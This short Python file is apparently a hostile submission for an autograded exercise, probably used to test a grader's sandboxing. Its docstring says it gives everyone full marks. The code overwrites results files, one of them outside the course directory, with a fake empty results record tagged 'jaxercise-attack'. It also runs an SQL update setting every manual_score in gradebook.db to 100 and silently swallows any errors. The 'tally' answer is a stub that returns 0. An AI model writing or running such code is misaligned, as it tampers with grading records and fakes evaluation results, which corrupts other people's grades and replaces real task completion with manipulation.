"""Gives everyone full marks with one statement of SQL, and a file of results in the place of the grader's."""
# tally: failed, failed
# %%
import json, sqlite3

for path in ("@COURSE@/gradebook.db", "@COURSE@/../results.json", "@OUTSIDE@/results.json"):
    try:
        with open(path, "r+" if "results" not in path else "w") as stream:
            stream.write(json.dumps({"version": 1, "results": [], "by": "jaxercise-attack"}))
        sqlite3.connect(path).execute("update grade set manual_score = 100")
    except (OSError, sqlite3.Error):
        pass
# %% answer="tally"
def tally(counts, start):
    return 0
